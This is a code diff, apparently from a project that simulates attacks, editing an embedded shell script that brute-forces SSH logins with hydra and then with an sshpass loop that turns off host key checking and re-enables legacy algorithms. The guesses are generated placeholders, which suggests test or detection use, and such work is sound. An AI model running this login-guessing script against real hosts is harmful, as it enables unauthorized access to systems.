@@ -13,10 +13,15 @@ words=$(mktemp)
 seq -f 'guess-%g' "$3" > "$words"
 trap 'rm -f "$words" hydra.restore' EXIT
 cd /tmp
-timeout 15 hydra -t 2 -I -l "$1" -P "$words" "ssh://$2" 2>&1 | tee /dev/stderr | grep -q 'kex error' || exit 0
+answer=$(timeout 15 hydra -t 2 -I -l "$1" -P "$words" "ssh://$2" 2>&1)
+echo "$answer"
+case $answer in *'kex error'*) ;; *) exit 0 ;; esac
 options='-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o ConnectTimeout=1
   -o HostKeyAlgorithms=+ssh-rsa -o MACs=+hmac-sha1 -o PubkeyAuthentication=no'
-while read -r word; do sshpass -p "$word" ssh $options "$1@$2" true 2>&1 </dev/null || [ $? -ne 255 ] || break; done < "$words"
+while read -r word; do
+  answer=$(sshpass -p "$word" ssh $options "$1@$2" true 2>&1 </dev/null)
+  case $answer in *'Permission denied'*) ;; *) echo "$answer"; break ;; esac
+done < "$words"
 `;
 
 const bruteForce: Attack = {
